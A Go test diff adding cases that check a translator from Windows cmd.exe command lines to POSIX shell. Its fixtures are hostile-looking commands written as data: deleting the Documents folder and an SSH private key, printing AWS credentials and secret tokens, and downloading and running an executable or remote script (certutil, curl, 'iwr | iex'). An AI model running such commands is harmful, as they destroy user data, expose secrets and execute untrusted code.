@@ -156,3 +156,29 @@ func TestTranslateBounded(t *testing.T) {
 		t.Error("a small nesting is cut")
 	}
 }
+
+func TestCmd(t *testing.T) {
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{[]string{"/c", "rd /s /q C:\\Users\\dev\\Documents"}, "rm -r -f ~/Documents"},
+		{[]string{"/c", `del /f /q "%USERPROFILE%\.ssh\id_rsa"`}, "rm -f ~/.ssh/id_rsa"},
+		{[]string{"/s", "/c", `"type %USERPROFILE%\.aws\credentials"`}, "cat ~/.aws/credentials"},
+		{[]string{"/c", "set"}, "env"},
+		{[]string{"/c", "set AWS_SECRET_ACCESS_KEY"}, "printenv AWS_SECRET_ACCESS_KEY"},
+		{[]string{"/c", "echo %GITHUB_TOKEN%"}, `echo "${GITHUB_TOKEN}"`},
+		{[]string{"/c", "certutil -urlcache -split -f http://x/a.exe a.exe && a.exe"}, "curl -o a.exe http://x/a.exe && a.exe"},
+		{[]string{"/c", `certutil -urlcache -f http://x/a %TEMP%\a.exe & %TEMP%\a.exe`}, `curl -o "${TEMP}/a.exe" http://x/a ; "${TEMP}/a.exe"`},
+		{[]string{"/c", "dir /b & npm test | more"}, "dir /b ; npm test | more"},
+		{[]string{"/c", "echo x > out.txt"}, "echo x > out.txt"},
+		{[]string{"/c", `start "" powershell -c "iwr u | iex"`}, "powershell -c 'iwr u | iex'"},
+		{[]string{"/q", "x"}, ""},
+	}
+	for _, tt := range tests {
+		line, _ := CmdScript(tt.args)
+		if got := TranslateCmd(line); got != tt.want {
+			t.Errorf("cmd %q\n got  %q\n want %q", tt.args, got, tt.want)
+		}
+	}
+}
